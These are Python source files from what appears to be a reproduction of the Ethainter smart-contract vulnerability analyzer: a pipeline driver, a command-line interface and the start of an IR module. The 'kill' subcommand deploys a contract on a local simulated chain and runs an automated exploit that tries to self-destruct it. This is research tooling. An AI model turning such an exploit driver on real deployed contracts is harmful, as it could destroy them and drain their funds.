def stage_fingerprints(config) -> Dict[str, str]:
    """Cumulative per-stage config fingerprints for ``config``."""
    fingerprints: Dict[str, str] = {}
    cumulative: Tuple[str, ...] = ()
    for stage in STAGES:
        cumulative = cumulative + stage.config_fields
        fingerprints[stage.name] = config_fingerprint(config, cumulative)
    return fingerprints


# -------------------------------------------------------------------- driving


@dataclass
class StageTiming:
    """Wall-clock and outcome record for one stage of one run."""

    name: str
    seconds: float = 0.0
    cached: bool = False
    error: Optional[str] = None


@dataclass
class PipelineOutcome:
    """Everything :func:`run_pipeline` produces for one contract."""

    artifacts: Dict[str, object] = field(default_factory=dict)
    timings: List[StageTiming] = field(default_factory=list)
    error: Optional[str] = None  # "timeout" | "lift-error: ..." | None
    deadline_exceeded: bool = False
    cache_hits: int = 0
    cache_misses: int = 0
    elapsed_seconds: float = 0.0

    def stage_seconds(self) -> Dict[str, float]:
        return {timing.name: timing.seconds for timing in self.timings}


def run_pipeline(
    runtime_bytecode: bytes,
    config,
    cache: Optional[ArtifactCache] = None,
    deadline: Optional[Deadline] = None,
    warm: Optional[object] = None,
) -> PipelineOutcome:
    """Run the staged analysis over one contract.

    ``warm`` optionally carries a
    :class:`~repro.core.bytecode_datalog.WarmEngineCache` so repeat datalog
    runs over the same contract repair a live fixpoint incrementally.

    Terminal states are explicit:

    * a stage aborted mid-flight by the budget sets ``error="timeout"`` and
      ``deadline_exceeded=True`` — downstream artifacts are absent;
    * a run that *completes* detection but crosses the budget keeps all its
      artifacts, leaves ``error=None`` and only sets
      ``deadline_exceeded=True`` (late finish — previously such runs were
      double-counted as both flagged and errored);
    * a lift failure sets ``error="lift-error: ..."``.
    """
    engine = getattr(config, "engine", "python")
    if engine not in ENGINE_CHOICES:
        raise UnknownEngineError(engine)
    # Fail fast on a bad kinds filter too (before any stage runs), so the
    # caller sees UnknownKindError instead of a mid-pipeline stage error.
    validate_kinds(getattr(config, "kinds", None))
    started = time.monotonic()
    outcome = PipelineOutcome()
    if deadline is None:
        deadline = Deadline(config.timeout_seconds)

    digest = bytecode_digest(runtime_bytecode) if cache is not None else None
    fingerprints = stage_fingerprints(config) if cache is not None else {}
    context = PipelineContext(
        bytecode=runtime_bytecode, config=config, deadline=deadline, warm=warm
    )

    for stage in STAGES:
        if deadline.expired():
            outcome.error = "timeout"
            outcome.deadline_exceeded = True
            break
        timing = StageTiming(name=stage.name)
        outcome.timings.append(timing)
        key = None
        if cache is not None:
            key = (digest, stage.name, fingerprints[stage.name])
            stage_started = time.monotonic()
            artifact = cache.get(key)
            if artifact is not None:
                timing.seconds = time.monotonic() - stage_started
                timing.cached = True
                outcome.cache_hits += 1
                context.artifacts[stage.name] = artifact
                continue
            outcome.cache_misses += 1
        stage_started = time.monotonic()
        try:
            artifact = stage.run(context)
        except DeadlineExceeded:
            timing.seconds = time.monotonic() - stage_started
            timing.error = "timeout"
            outcome.error = "timeout"
            outcome.deadline_exceeded = True
            break
        except LiftError as error:
            timing.seconds = time.monotonic() - stage_started
            timing.error = str(error)
            outcome.error = "lift-error: %s" % error
            break
        timing.seconds = time.monotonic() - stage_started
        context.artifacts[stage.name] = artifact
        if cache is not None and artifact is not None:
            cache.put(key, artifact)
    else:
        # All stages completed; a crossed deadline is a *late finish*, not
        # an abort — artifacts (and warnings) are kept.
        if deadline.expired():
            outcome.deadline_exceeded = True

    outcome.artifacts = context.artifacts
    outcome.elapsed_seconds = time.monotonic() - started
    return outcome
