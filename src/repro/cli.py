"""Command-line interface: ``python -m repro <command>`` or ``repro``.

Commands:

* ``analyze``  — run Ethainter on a contract (MiniSol source or hex bytecode)
* ``compile``  — compile MiniSol to EVM bytecode
* ``disasm``   — disassemble hex bytecode
* ``decompile``— lift hex bytecode to three-address code (``--dot`` for CFG)
* ``abi``      — print function selectors and event signatures
* ``corpus``   — generate a labeled synthetic corpus to a directory
* ``sweep``    — analyze a generated corpus and print/emit statistics
* ``serve``    — run the analysis-as-a-service HTTP daemon
* ``kill``     — deploy a contract locally and run Ethainter-Kill against it
* ``lint-rules`` — statically lint Datalog rule programs (shipped or files)
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

from repro import api
from repro.baselines import SecurifyAnalysis, TeEtherAnalysis
from repro.chain import Blockchain
from repro.corpus import generate_corpus
from repro.decompiler import lift
from repro.core.vulnerabilities import (
    UnknownKindError,
    VULNERABILITY_KINDS,
    validate_kinds,
)
from repro.evm.disassembler import format_disassembly
from repro.kill import EthainterKill
from repro.minisol import compile_source


def _parse_kinds(text: str):
    """argparse type for ``--kinds``: comma-separated, validated."""
    names = [piece.strip() for piece in text.split(",") if piece.strip()]
    try:
        return validate_kinds(names)
    except UnknownKindError as error:
        raise argparse.ArgumentTypeError(str(error)) from None


def _read_bytecode(args: argparse.Namespace) -> bytes:
    if args.source:
        text = Path(args.source).read_text()
        compiled = compile_source(text, args.contract)
        if isinstance(compiled, dict):
            raise SystemExit(
                "multiple contracts in source; pick one with --contract: %s"
                % ", ".join(compiled)
            )
        return compiled.runtime
    if args.hex:
        text = Path(args.hex).read_text().strip()
        if text.startswith("0x"):
            text = text[2:]
        return bytes.fromhex(text)
    raise SystemExit("provide --source FILE or --hex FILE")


def _add_input_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--source", help="MiniSol source file")
    parser.add_argument("--contract", help="contract name within the source")
    parser.add_argument("--hex", help="hex-encoded runtime bytecode file")


def _print_stage_profile(
    stage_seconds, cache_hits: int, cache_misses: int, stream=None
) -> None:
    """Per-stage wall-clock breakdown (the ``--profile`` view)."""
    from repro.core.pipeline import STAGE_NAMES

    stream = stream if stream is not None else sys.stdout
    total = sum(stage_seconds.values()) or 1.0
    print("pipeline profile:", file=stream)
    for name in STAGE_NAMES:
        if name not in stage_seconds:
            continue
        seconds = stage_seconds[name]
        print(
            "  %-8s %9.3f ms  %5.1f%%"
            % (name, 1000 * seconds, 100 * seconds / total),
            file=stream,
        )
    for name in stage_seconds:
        if name not in STAGE_NAMES:
            print("  %-8s %9.3f ms" % (name, 1000 * stage_seconds[name]), file=stream)
    print("  cache    %d hit(s) / %d miss(es)" % (cache_hits, cache_misses), file=stream)


def _print_precision(precision: dict, stream=None) -> None:
    """Precision counters (the second ``--profile`` section)."""
    stream = stream if stream is not None else sys.stdout
    print("precision counters:", file=stream)
    for key, value in precision.items():
        print("  %-28s %d" % (key, value), file=stream)


def _print_orchestrator(stats: dict, stream=None) -> None:
    """Sweep-executor health counters (the ``--profile`` section for the
    orchestrator: crashes, watchdog kills, retries, recycles, resumed)."""
    stream = stream if stream is not None else sys.stdout
    print("orchestrator:", file=stream)
    for key, value in stats.items():
        print("  %-28s %s" % (key, value), file=stream)


def _print_datalog_stats(stats: dict, stream=None) -> None:
    """Datalog engine counters (the ``--profile`` section for the datalog
    engines): flat join/index/iteration counters plus per-rule derivation
    counts, most productive rules first."""
    stream = stream if stream is not None else sys.stdout
    print("datalog engine:", file=stream)
    for key, value in stats.items():
        if isinstance(value, int):
            print("  %-28s %d" % (key, value), file=stream)
    rule_derivations = stats.get("rule_derivations") or {}
    if rule_derivations:
        print("  per-rule derivations:", file=stream)
        for rule, count in rule_derivations.items():
            print("    %6d  %s" % (count, rule), file=stream)


def _request_from_args(args: argparse.Namespace, **overrides) -> api.AnalyzeRequest:
    """Fold the shared ``_analysis_parent`` flags into the public
    :class:`repro.api.AnalyzeRequest` — the CLI speaks the same config
    surface as the library and the HTTP daemon."""
    fields = dict(
        engine=args.engine,
        kinds=args.kinds,
        value_analysis=args.value_analysis,
        deadline=args.deadline,
        model_guards=not getattr(args, "no_guards", False),
        model_storage_taint=not getattr(args, "no_storage", False),
        conservative_storage=getattr(args, "conservative_storage", False),
    )
    fields.update(overrides)
    return api.AnalyzeRequest(**fields)


def cmd_analyze(args: argparse.Namespace) -> int:
    """``repro analyze``: run Ethainter on source or hex bytecode, or a
    multi-contract ``--bundle`` through the cross-contract pass."""
    if getattr(args, "bundle", None):
        return _analyze_bundle_cmd(args)
    runtime = _read_bytecode(args)
    request = _request_from_args(args)
    config = request.config()
    result = api.analyze(runtime, config)
    if args.profile:
        # With --json on stdout, stdout must stay machine-parseable; the
        # human breakdown goes to stderr (stage_seconds is in the JSON).
        stream = sys.stderr if args.json == "-" else sys.stdout
        _print_stage_profile(
            result.stage_seconds(), result.cache_hits, result.cache_misses,
            stream=stream,
        )
        if result.deadline_exceeded:
            print("  (deadline exceeded)", file=stream)
        _print_precision(result.precision.as_dict(), stream=stream)
        if result.datalog_stats:
            _print_datalog_stats(result.datalog_stats, stream=stream)
    if args.json:
        from repro.core.report import ContractReport

        text = ContractReport.from_result(
            result, name=args.contract or "", bytecode_size=len(runtime)
        ).to_json()
        if args.json == "-":
            print(text)
        else:
            Path(args.json).write_text(text)
            print("report written to %s" % args.json)
        return 1 if result.warnings else 0
    if result.error:
        print("analysis error: %s" % result.error)
        return 2
    print(
        "analyzed %d blocks / %d statements in %.3fs"
        % (result.block_count, result.statement_count, result.elapsed_seconds)
    )
    if not result.warnings:
        print("no vulnerabilities found")
        return 0
    for warning in result.warnings:
        location = "pc=0x%x" % warning.pc if warning.pc >= 0 else "slot=%s" % warning.slot
        print("[%s] %s — %s" % (warning.kind, location, warning.detail))
    if args.explain and result.warnings:
        from repro.core.bytecode_datalog import analyze_with_datalog, explain_warning

        taint = analyze_with_datalog(
            facts=result.facts,
            storage=result.storage,
            guards=result.guards,
            options=config.taint_options(),
            track_provenance=True,
        )
        engine = taint.engine  # type: ignore[attr-defined]
        for warning in result.warnings:
            print("\nwhy [%s]:" % warning.kind)
            explanation = explain_warning(engine, warning, taint)
            print("\n".join("  " + line for line in explanation.splitlines()))
    if args.compare:
        securify = SecurifyAnalysis().analyze(runtime)
        teether = TeEtherAnalysis().analyze(runtime)
        print(
            "baselines: securify=%d violation(s), teether=%s"
            % (len(securify.violations), sorted(teether.kinds()) or "none")
        )
    return 1


def _analyze_bundle_cmd(args: argparse.Namespace) -> int:
    """The ``repro analyze --bundle FILE`` path: cross-contract analysis."""
    if args.source or args.hex:
        raise SystemExit("--bundle replaces --source/--hex, not combines")
    from repro.core.report import BundleReport

    try:
        bundle = api.load_bundle_file(Path(args.bundle))
    except (OSError, ValueError) as error:
        raise SystemExit("bad bundle file: %s" % error) from None
    request = _request_from_args(args, bundle=bundle)
    result = api.analyze_bundle(request)
    report = BundleReport.from_result(result)
    if args.json:
        text = report.to_json()
        if args.json == "-":
            print(text)
        else:
            Path(args.json).write_text(text)
            print("report written to %s" % args.json)
        return 1 if report.flagged else 0
    for contract, contract_report in zip(bundle.contracts, report.contracts):
        if contract_report.error:
            print(
                "%s (0x%x): analysis error: %s"
                % (contract.label(), contract.address, contract_report.error)
            )
            continue
        print(
            "%s (0x%x): %d blocks / %d statements, %d warning(s)"
            % (
                contract.label(),
                contract.address,
                contract_report.block_count,
                contract_report.statement_count,
                len(contract_report.warnings),
            )
        )
        for warning in contract_report.warnings:
            location = (
                "pc=0x%x" % warning["pc"]
                if warning["pc"] >= 0
                else "slot=%s" % warning["slot"]
            )
            print("  [%s] %s — %s" % (warning["kind"], location, warning["detail"]))
    resolved = sum(1 for edge in result.call_edges if edge.callee is not None)
    print(
        "call graph: %d site(s), %d resolved within the bundle"
        % (len(result.call_edges), resolved)
    )
    for edge in result.call_edges:
        target = "0x%x" % edge.callee if edge.callee is not None else "?"
        via = " via slot %d" % edge.slot if edge.slot is not None else ""
        print(
            "  0x%x --%s--> %s%s (pc=0x%x)"
            % (edge.caller, edge.kind, target, via, edge.pc)
        )
    if not result.cross_findings:
        print("no cross-contract vulnerabilities found")
        return 1 if report.flagged else 0
    for finding in result.cross_findings:
        print(
            "[%s] 0x%x pc=0x%x — %s"
            % (finding.kind, finding.address, finding.pc, finding.detail)
        )
    return 1


def cmd_compile(args: argparse.Namespace) -> int:
    """``repro compile``: MiniSol source to runtime bytecode hex."""
    text = Path(args.file).read_text()
    compiled = compile_source(text, args.contract)
    if isinstance(compiled, dict):
        for name, contract in compiled.items():
            print("%s: %d bytes runtime" % (name, len(contract.runtime)))
            print("  runtime: %s" % contract.runtime.hex())
        return 0
    print(compiled.runtime.hex())
    return 0


def cmd_disasm(args: argparse.Namespace) -> int:
    """``repro disasm``: print a bytecode disassembly listing."""
    runtime = _read_bytecode(args)
    print(format_disassembly(runtime))
    return 0


def cmd_decompile(args: argparse.Namespace) -> int:
    """``repro decompile``: lift bytecode to TAC (or a dot CFG)."""
    runtime = _read_bytecode(args)
    program = lift(runtime)
    if args.dot:
        from repro.ir.dot import to_dot

        print(to_dot(program))
        return 0
    print(program)
    return 0


def cmd_corpus(args: argparse.Namespace) -> int:
    """``repro corpus``: write a labeled synthetic corpus to disk."""
    out_dir = Path(args.out)
    out_dir.mkdir(parents=True, exist_ok=True)
    mainnet = None
    if getattr(args, "mainnet", None):
        from repro.corpus.generator import generate_mainnet

        mainnet = generate_mainnet(
            args.mainnet,
            unique=args.size,
            seed=args.seed,
            duplication_seed=args.dup_seed,
        )
        corpus = mainnet.uniques
    else:
        corpus = generate_corpus(args.size, seed=args.seed)
    index = []
    for contract in corpus:
        stem = "%04d_%s" % (contract.index, contract.name)
        (out_dir / (stem + ".msol")).write_text(contract.source)
        (out_dir / (stem + ".hex")).write_text(contract.runtime.hex())
        index.append(
            {
                "index": contract.index,
                "name": contract.name,
                "template": contract.template,
                "labels": sorted(contract.labels),
                "expected_fp_kinds": sorted(contract.expected_fp_kinds),
                "exploitable_selfdestruct": contract.exploitable_selfdestruct,
                "solidity_version": contract.solidity_version,
                "has_source": contract.has_source,
                "inline_assembly": contract.inline_assembly,
                "eth_held": contract.eth_held,
            }
        )
    (out_dir / "index.json").write_text(json.dumps(index, indent=2))
    if mainnet is not None:
        # Unique sources are on disk above; the manifest records the
        # deployed population (assignments into the unique set) plus every
        # seed, so the mainnet is reproducible from this file alone.
        manifest = dict(mainnet.manifest)
        manifest["assignments"] = mainnet.assignments
        (out_dir / "manifest.json").write_text(json.dumps(manifest, indent=2))
        print(
            "wrote %d unique contracts to %s (mainnet manifest: %d "
            "submissions, dup rate %.1f%%)"
            % (
                len(corpus),
                out_dir,
                mainnet.total,
                100 * mainnet.manifest["duplicate_rate"],
            )
        )
        return 0
    print("wrote %d contracts to %s" % (len(corpus), out_dir))
    return 0


def cmd_abi(args: argparse.Namespace) -> int:
    """``repro abi``: print selectors and event signatures."""
    text = Path(args.file).read_text()
    compiled = compile_source(text, args.contract)
    contracts = compiled if isinstance(compiled, dict) else {compiled.name: compiled}
    from repro.evm.hashing import function_selector

    for name, contract in contracts.items():
        print("contract %s" % name)
        for fn in contract.public_functions:
            print("  0x%08x  %s" % (function_selector(fn.signature), fn.signature))
        for event in contract.ast.events:
            print("  event     %s" % event.signature)
    return 0


def cmd_sweep(args: argparse.Namespace) -> int:
    """``repro sweep``: corpus-wide statistics (and optional JSON).

    ``--jobs N`` fans the corpus out over the supervised orchestrator
    (crash isolation, watchdog, retries); ``--resume JOURNAL`` checkpoints
    completed contracts to a JSONL journal and, when the journal already
    exists, skips them — an interrupted sweep restarted with the same
    journal re-analyzes only the unfinished remainder.
    """
    from repro.core.report import ContractReport, SweepReport

    mainnet = None
    if getattr(args, "mainnet", None):
        from repro.corpus.generator import generate_mainnet

        mainnet = generate_mainnet(
            args.mainnet,
            unique=args.size,
            seed=args.seed,
            duplication_seed=args.dup_seed,
        )
        corpus = mainnet.contracts()
    else:
        corpus = generate_corpus(args.size, seed=args.seed)
    request = _request_from_args(args)
    summary = api.sweep(
        [contract.runtime for contract in corpus],
        request,
        jobs=args.jobs,
        executor=args.executor,
        mp_context=args.mp_context,
        max_retries=args.max_retries,
        journal=args.resume,
        resume=bool(args.resume),
        dedup=False if args.no_dedup else None,
        result_cache=args.result_cache,
    )
    sweep = SweepReport()
    for contract, entry in zip(corpus, summary.entries):
        sweep.add(
            ContractReport.from_entry(
                entry, name=contract.name, bytecode_size=len(contract.runtime)
            )
        )
    sweep.orchestrator = dict(summary.orchestrator)

    # With --json on stdout the human summary moves to stderr so stdout
    # stays machine-parseable.
    out = sys.stderr if args.json == "-" else sys.stdout
    stats = sweep.summary()
    if mainnet is not None:
        manifest = mainnet.manifest
        print(
            "synthetic mainnet: %d submissions over %d uniques "
            "(dup rate %.1f%%, seed=%s dup_seed=%s)"
            % (
                manifest["total"],
                manifest["unique"],
                100 * manifest["duplicate_rate"],
                manifest["seed"],
                manifest["duplication_seed"],
            ),
            file=out,
        )
    print("analyzed %d contracts (%d flagged, %d errors)" % (
        stats["analyzed"], stats["flagged"], stats["errors"]), file=out)
    if summary.tasks_total and summary.dedup_hits + summary.result_cache_hits:
        print(
            "dedup: %d submissions -> %d unique (%d fan-out, %d result-cache)"
            % (
                summary.tasks_total,
                summary.tasks_unique,
                summary.dedup_hits,
                summary.result_cache_hits,
            ),
            file=out,
        )
    print("flag rate: %.2f%%  avg time: %.1f ms" % (
        100 * stats["flag_rate"], 1000 * stats["avg_elapsed_seconds"]), file=out)
    for kind, count in stats["kind_counts"].items():
        print("  %-32s %d" % (kind, count), file=out)
    if summary.degraded:
        print(
            "degraded to in-process execution: %s" % summary.degraded_reason,
            file=out,
        )
    if stats["error_kind_counts"]:
        print(
            "error kinds: %s"
            % ", ".join(
                "%s=%d" % (kind, count)
                for kind, count in sorted(stats["error_kind_counts"].items())
            ),
            file=out,
        )
    if args.profile:
        _print_stage_profile(
            stats["stage_seconds"],
            stats["cache"]["hits"],
            stats["cache"]["misses"],
            stream=out,
        )
        if stats["deadline_exceeded"]:
            print(
                "  deadline exceeded on %d contract(s)"
                % stats["deadline_exceeded"],
                file=out,
            )
        _print_precision(stats["precision"], stream=out)
        if stats.get("datalog"):
            _print_datalog_stats(stats["datalog"], stream=out)
        if stats.get("orchestrator"):
            _print_orchestrator(stats["orchestrator"], stream=out)
    if args.json == "-":
        print(sweep.to_json())
    elif args.json:
        Path(args.json).write_text(sweep.to_json())
        print("full report written to %s" % args.json, file=out)
    return 0


def cmd_serve(args: argparse.Namespace) -> int:
    """``repro serve``: the analysis-as-a-service HTTP daemon.

    The shared analysis flags become the daemon's *default*
    :class:`repro.api.AnalyzeRequest`; every HTTP request may override
    any field.  Runs until SIGTERM/SIGINT, then drains gracefully
    (in-flight requests finish, the worker pool shuts down).
    """
    from repro.core.orchestrator import OrchestratorOptions
    from repro.serve import ServeOptions, serve_forever

    orchestrator = OrchestratorOptions(mp_context=args.mp_context)
    options = ServeOptions(
        host=args.host,
        port=args.port,
        jobs=args.jobs,
        max_queue=args.max_queue,
        dedup=not args.no_dedup,
        result_cache=args.result_cache,
        defaults=_request_from_args(args),
        orchestrator=orchestrator,
    )
    serve_forever(options)
    return 0


def cmd_kill(args: argparse.Namespace) -> int:
    """``repro kill``: deploy locally and run Ethainter-Kill."""
    text = Path(args.source).read_text()
    compiled = compile_source(text, args.contract)
    if isinstance(compiled, dict):
        raise SystemExit("multiple contracts; pick one with --contract")
    chain = Blockchain()
    deployer = 0xDE9107E2
    chain.fund(deployer, 10**20)
    receipt = chain.deploy(deployer, compiled.init, value=args.value)
    if not receipt.success:
        print("deployment failed: %s" % receipt.error)
        return 2
    address = receipt.contract_address
    print("deployed %s at 0x%040x with %d wei" % (compiled.name, address, args.value))
    result = api.analyze(compiled.runtime)
    print("ethainter warnings: %s" % sorted({w.kind for w in result.warnings}))
    killer = EthainterKill(chain)
    outcome = killer.attack(address, result)
    if outcome.destroyed:
        print(
            "DESTROYED in %d transaction(s); plan: %s"
            % (
                outcome.transactions_sent,
                " -> ".join("0x%08x" % call.selector for call in outcome.plan),
            )
        )
        return 1
    print("not destroyed: %s" % (outcome.reason or "exploit failed"))
    return 0


def cmd_lint_rules(args: argparse.Namespace) -> int:
    """``repro lint-rules``: statically lint Datalog rule programs.

    Without arguments, lints every rule program the analysis actually
    evaluates; with file arguments, lints those ``.dl`` files instead.
    Exits 1 when any error-severity finding exists.
    """
    from repro.datalog.lint import (
        format_findings,
        has_errors,
        lint_shipped,
        lint_text,
        stratification_preview,
    )

    findings = []
    if args.files:
        for path in args.files:
            findings.extend(lint_text(Path(path).read_text(), source=path))
    else:
        findings = lint_shipped()
    if findings:
        print(format_findings(findings))
    errors = sum(1 for finding in findings if finding.severity == "error")
    print(
        "%d finding(s) (%d error(s)) in %s"
        % (
            len(findings),
            errors,
            ", ".join(args.files) if args.files else "shipped rule programs",
        )
    )
    if args.strata:
        from repro.datalog.lint import shipped_programs
        from repro.datalog.parser import DatalogSyntaxError, parse_program_lenient

        sources = (
            [(path, Path(path).read_text()) for path in args.files]
            if args.files
            else shipped_programs()
        )
        for name, text in sources:
            try:
                program = parse_program_lenient(text)
            except DatalogSyntaxError:
                continue
            print("strata for %s:" % name)
            for level, stratum in enumerate(stratification_preview(program.rules)):
                print("  %d: %s" % (level, ", ".join(stratum)))
    return 1 if has_errors(findings) else 0


def _analysis_parent() -> argparse.ArgumentParser:
    """Flags shared (with identical spellings) by ``analyze`` and ``sweep``.

    Both commands configure the same :class:`AnalysisConfig`, so they
    accept the same knobs: ``--engine``, ``--value-analysis``,
    ``--deadline``, ``--profile`` and ``--json``.  ``--json`` with no
    argument writes the report to stdout (human output moves to stderr);
    with a path it writes the report file.
    """
    from repro.core.pipeline import ENGINE_CHOICES

    parent = argparse.ArgumentParser(add_help=False)
    parent.add_argument(
        "--engine",
        choices=sorted(ENGINE_CHOICES),
        default="python",
        help="fixpoint engine: "
        + "; ".join(
            "%s = %s" % (name, description)
            for name, description in sorted(ENGINE_CHOICES.items())
        ),
    )
    parent.add_argument(
        "--value-analysis",
        action="store_true",
        help="enable the value-set stratum (resolves computed storage indices)",
    )
    parent.add_argument(
        "--deadline",
        type=float,
        default=120.0,
        metavar="SECONDS",
        help="per-contract wall-clock budget (paper §6 cutoff; default 120)",
    )
    # Historical spelling of --deadline; kept working but hidden.
    parent.add_argument(
        "--timeout",
        type=float,
        dest="deadline",
        default=argparse.SUPPRESS,
        help=argparse.SUPPRESS,
    )
    parent.add_argument(
        "--kinds",
        type=_parse_kinds,
        default=None,
        metavar="KIND[,KIND...]",
        help="restrict reported warnings to these vulnerability kinds "
        "(comma-separated subset of: %s)" % ", ".join(VULNERABILITY_KINDS),
    )
    parent.add_argument(
        "--profile",
        action="store_true",
        help="print wall-clock, cache, and precision breakdowns",
    )
    parent.add_argument(
        "--json",
        nargs="?",
        const="-",
        metavar="FILE",
        help="emit the JSON report: to FILE, or to stdout when no FILE given",
    )
    return parent


def build_parser() -> argparse.ArgumentParser:
    """Construct the argument parser for all subcommands."""
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Ethainter reproduction: composite smart-contract vulnerability analysis",
    )
    commands = parser.add_subparsers(dest="command", required=True)
    analysis_parent = _analysis_parent()

    analyze = commands.add_parser(
        "analyze", help="run the Ethainter analysis", parents=[analysis_parent]
    )
    _add_input_args(analyze)
    analyze.add_argument(
        "--bundle",
        help="multi-contract bundle JSON file (cross-contract analysis); "
        'shape: {"contracts": [{"address", "source"|"bytecode"|'
        '"source_file"|"hex_file", "name", "storage"}, ...]}',
    )
    analyze.add_argument("--no-guards", action="store_true", help="Fig. 8b ablation")
    analyze.add_argument("--no-storage", action="store_true", help="Fig. 8a ablation")
    analyze.add_argument(
        "--conservative-storage", action="store_true", help="Fig. 8c ablation"
    )
    analyze.add_argument(
        "--compare", action="store_true", help="also run Securify/teEther baselines"
    )
    analyze.add_argument(
        "--explain",
        action="store_true",
        help="print Datalog derivation trees for each warning",
    )
    analyze.set_defaults(func=cmd_analyze)

    abi = commands.add_parser("abi", help="print selectors and event signatures")
    abi.add_argument("file")
    abi.add_argument("--contract")
    abi.set_defaults(func=cmd_abi)

    sweep = commands.add_parser(
        "sweep",
        help="analyze a generated corpus and print/emit statistics",
        parents=[analysis_parent],
    )
    sweep.add_argument("--size", type=int, default=100)
    sweep.add_argument("--seed", type=int, default=2020)
    sweep.add_argument(
        "--jobs",
        type=int,
        default=1,
        help="worker processes (>1 runs the supervised orchestrator)",
    )
    sweep.add_argument(
        "--resume",
        metavar="JOURNAL",
        help="JSONL checkpoint journal: completed contracts are recorded "
        "there and skipped when the sweep is re-run after an interruption",
    )
    sweep.add_argument(
        "--max-retries",
        type=int,
        default=2,
        help="retries per contract for transient worker failures",
    )
    sweep.add_argument(
        "--mp-context",
        choices=["fork", "spawn", "forkserver"],
        help="multiprocessing start method (default: fork where available)",
    )
    sweep.add_argument(
        "--executor",
        choices=["auto", "orchestrator", "pool", "serial"],
        default="auto",
        help="sweep executor: the supervised orchestrator, the legacy "
        "process pool, or in-process serial (auto picks by --jobs)",
    )
    sweep.add_argument(
        "--no-dedup",
        action="store_true",
        help="disable content-addressed coalescing of duplicate "
        "submissions (escape hatch; every submission analyzed naively)",
    )
    sweep.add_argument(
        "--result-cache",
        metavar="DIR",
        help="disk-backed cross-run result cache directory: identities "
        "(bytecode digest + config fingerprint) completed by any earlier "
        "sweep are resolved without analysis",
    )
    sweep.add_argument(
        "--mainnet",
        type=int,
        metavar="TOTAL",
        help="sweep a synthetic mainnet of TOTAL submissions drawn with "
        "Zipf-like duplication over --size unique contracts (§6.1 shape)",
    )
    sweep.add_argument(
        "--dup-seed",
        type=int,
        help="seed for the --mainnet duplication distribution "
        "(default: --seed)",
    )
    sweep.set_defaults(func=cmd_sweep)

    serve = commands.add_parser(
        "serve",
        help="run the analysis-as-a-service HTTP daemon",
        parents=[analysis_parent],
        description="Long-lived asyncio HTTP daemon: POST /analyze, "
        "POST /batch (NDJSON streaming), GET /health, GET /metrics.  The "
        "shared analysis flags (--engine, --deadline, --kinds, ...) set "
        "the daemon's default configuration; each request may override "
        "them field by field.",
    )
    serve.add_argument("--host", default="127.0.0.1", help="bind address")
    serve.add_argument(
        "--port",
        type=int,
        default=8091,
        help="bind port (0 picks a free port, printed at startup)",
    )
    serve.add_argument(
        "--jobs",
        type=int,
        default=1,
        help="persistent analysis worker processes (0 = inline, no "
        "subprocesses)",
    )
    serve.add_argument(
        "--max-queue",
        type=int,
        default=64,
        help="open-request admission bound; past it requests get HTTP 429",
    )
    serve.add_argument(
        "--no-dedup",
        action="store_true",
        help="disable in-flight coalescing and completed-work reuse "
        "(every request analyzed naively)",
    )
    serve.add_argument(
        "--result-cache",
        metavar="DIR",
        help="disk-backed cross-run result cache directory, shared with "
        "repro sweep --result-cache (same identity keys)",
    )
    serve.add_argument(
        "--mp-context",
        choices=["fork", "spawn", "forkserver"],
        help="multiprocessing start method (default: fork where available)",
    )
    serve.set_defaults(func=cmd_serve)

    compile_cmd = commands.add_parser("compile", help="compile MiniSol source")
    compile_cmd.add_argument("file")
    compile_cmd.add_argument("--contract")
    compile_cmd.set_defaults(func=cmd_compile)

    disasm = commands.add_parser("disasm", help="disassemble bytecode")
    _add_input_args(disasm)
    disasm.set_defaults(func=cmd_disasm)

    decompile = commands.add_parser("decompile", help="lift bytecode to TAC")
    _add_input_args(decompile)
    decompile.add_argument(
        "--dot", action="store_true", help="emit a Graphviz CFG instead of TAC text"
    )
    decompile.set_defaults(func=cmd_decompile)

    corpus = commands.add_parser("corpus", help="generate a labeled corpus")
    corpus.add_argument("--size", type=int, default=100)
    corpus.add_argument("--seed", type=int, default=2020)
    corpus.add_argument("--out", default="corpus-out")
    corpus.add_argument(
        "--mainnet",
        type=int,
        metavar="TOTAL",
        help="also write a synthetic-mainnet manifest: TOTAL submissions "
        "assigned over the --size unique contracts with Zipf-like "
        "duplication (manifest.json records seeds and template mix)",
    )
    corpus.add_argument(
        "--dup-seed",
        type=int,
        help="seed for the --mainnet duplication distribution "
        "(default: --seed)",
    )
    corpus.set_defaults(func=cmd_corpus)

    lint_rules = commands.add_parser(
        "lint-rules", help="statically lint Datalog rule programs"
    )
    lint_rules.add_argument(
        "files", nargs="*", help="Datalog files to lint (default: shipped rules)"
    )
    lint_rules.add_argument(
        "--strata",
        action="store_true",
        help="also print the stratification preview per program",
    )
    lint_rules.set_defaults(func=cmd_lint_rules)

    kill = commands.add_parser("kill", help="deploy locally and attack")
    kill.add_argument("source")
    kill.add_argument("--contract")
    kill.add_argument("--value", type=int, default=10**18)
    kill.set_defaults(func=cmd_kill)

    return parser


def main(argv=None) -> int:
    """CLI entry point; returns the process exit code."""
    args = build_parser().parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
