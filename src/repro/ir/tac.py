"""Functional three-address-code IR.

This is the decompiled program representation the Ethainter analysis
consumes, mirroring the "functional 3-address code" the paper obtains from
the Gigahorse toolchain (§5):

* every value is a named variable, in SSA spirit: each variable has exactly
  one defining statement (``PHI`` statements merge values at block entries),
* statements carry their originating bytecode offset so results can be mapped
  back to code locations,
* constant values are materialized by ``CONST`` statements and recorded in
  :attr:`TACProgram.const_value`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Set, Tuple


@dataclass
class TACStatement:
    """One TAC statement: ``defs = opcode(uses)``.

    ``opcode`` is an EVM mnemonic, ``CONST`` (literal materialization), or
    ``PHI`` (block-entry merge).  ``pc`` is the bytecode offset (-1 for
    synthetic statements such as PHIs).
    """

    ident: str
    opcode: str
    defs: List[str] = field(default_factory=list)
    uses: List[str] = field(default_factory=list)
    pc: int = -1
    block: str = ""

    @property
    def def_var(self) -> Optional[str]:
        return self.defs[0] if self.defs else None

    def __str__(self) -> str:
        lhs = ", ".join(self.defs)
        rhs = "%s(%s)" % (self.opcode, ", ".join(self.uses))
        return "%s = %s" % (lhs, rhs) if lhs else rhs


@dataclass
class TACBlock:
    """A basic block of TAC statements."""

    ident: str
    offset: int  # bytecode offset of the original block
    statements: List[TACStatement] = field(default_factory=list)
    successors: List[str] = field(default_factory=list)
    predecessors: List[str] = field(default_factory=list)
